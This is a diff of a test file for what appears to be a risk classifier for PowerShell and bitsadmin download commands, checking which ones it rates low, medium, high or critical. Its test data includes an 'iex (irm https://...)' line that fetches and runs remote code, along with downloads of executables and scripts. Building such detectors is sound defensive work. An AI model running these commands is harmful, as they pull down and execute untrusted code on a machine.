@@ -28,6 +28,17 @@ describe("what comes from another machine", () => {
     expect(fetch("203.0.113.7", "a.zip")).toBe(fetch("203.0.113.7", "a.exe"));
   });
 
+  it("weighs less where code only looks at what it is answered, or lays it down as data", () => {
+    const level = (code: string) => verdict(`powershell -c "${code}"`).level;
+    expect(level("Invoke-RestMethod https://api.example.net/v1/builds/latest")).toBe("low");
+    expect(level("iwr https://pkg.example.net/feed/kiwi/4.2 -OutFile kiwi.zip")).toBe("low");
+    expect(level("iwr https://pkg.example.net/feed/kiwi/4.2 -OutFile kiwi.exe")).toBe("medium");
+    expect(level("iwr https://pkg.example.net/feed/kiwi/4.2 -OutFile $to")).toBe("medium");
+    expect(level("iwr https://pkg.example.net/feed/kiwi.ps1")).toBe("medium");
+    expect(level("iwr https://203.0.113.7/feed/kiwi/4.2")).toBe("high");
+    expect(level("iex (irm https://api.example.net/v1/builds/latest)")).toBe("critical");
+  });
+
   it("weighs less from a server of the site as well, where it runs nothing by itself", () => {
     const fetch = (name: string) => verdict(`bitsadmin /transfer j https://files02/${name} D:\\kit\\${name}`);
     expect(fetch("a.zip").level).toBe("low");
